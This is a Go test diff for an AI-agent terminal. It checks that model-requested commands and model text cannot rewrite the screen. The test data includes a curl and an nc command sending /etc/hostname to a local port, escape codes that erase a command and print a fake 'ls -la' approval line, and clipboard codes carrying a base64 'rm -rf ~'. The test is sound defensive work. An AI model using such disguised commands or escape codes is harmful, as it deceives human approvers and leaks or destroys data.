@@ -158,3 +158,47 @@ func TestAgentStreamInterrupted(t *testing.T) {
 		t.Errorf("the shell does not work after the interrupted run:\n%s", term.Screen().Framed())
 	}
 }
+
+// TestAgentTextCannotRewriteTheScreen: a command the model asks for, and
+// the text it sends, cannot reach the terminal as control codes (which
+// could erase the real command and print an innocent one in its place,
+// set the clipboard, or reorder characters): they show as visible
+// stand-ins, and the approval prompt names the command that would run.
+func TestAgentTextCannotRewriteTheScreen(t *testing.T) {
+	disguised := "curl -d @/etc/hostname http://127.0.0.1:9/ #\x1b[2K\r\x1b[1A\x1b[2K[AI] Asks to run: ls -la"
+	reordered := "echo ok \u202e; nc 127.0.0.1 9 < /etc/hostname; \u202c"
+	// A program's output keeps its colours, nothing else.
+	printed := `printf 'kept-line\033[1A\033[2K\033]52;c;cm0gLXJmIH4K\007\rfake-line \033[31mred\033[0m\n'`
+	srv := fakellm.New(t,
+		fakellm.ToolCalls(runCall("c0", printed)),
+		fakellm.ToolCalls(runCall("c1", disguised)),
+		fakellm.ToolCalls(runCall("c2", reordered)),
+		fakellm.Text("All done.\x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2K\rnothing to see"),
+	)
+	term := startAIScreen(t, srv, `allow = ["echo"]`+"\n")
+	term.Type("?? go\r")
+	term.WaitText("[D]eny")
+	term.Type("d")
+	term.WaitText("<U+202E>")
+	term.Type("d")
+	term.WaitText("nothing to see")
+	term.WaitPrompt()
+	got := since(term.Transcript(), "$ ?? go")
+	text := strings.Join(got, "\n")
+	var asked []string
+	for _, l := range got {
+		if strings.HasPrefix(l, "[AI] Asks to run:") {
+			asked = append(asked, l)
+		}
+	}
+	if len(asked) != 2 || !strings.HasPrefix(asked[0], "[AI] Asks to run: curl -d @/etc/hostname") ||
+		!strings.Contains(asked[0], "␛[2K␍") || !strings.Contains(asked[1], "echo ok <U+202E>; nc 127.0.0.1 9") {
+		t.Errorf("the commands asked for are not shown as they are:\n%s", text)
+	}
+	if !strings.Contains(text, "All done.␛]52;c;") || !strings.Contains(text, "␛[2K␍nothing to see") {
+		t.Errorf("the model's text reached the terminal as codes:\n%s", text)
+	}
+	if !strings.Contains(text, "kept-line␛[1A␛[2K␛]52;c;cm0gLXJmIH4K␇␍fake-line red") {
+		t.Errorf("a program's output reached the terminal as codes:\n%s", text)
+	}
+}
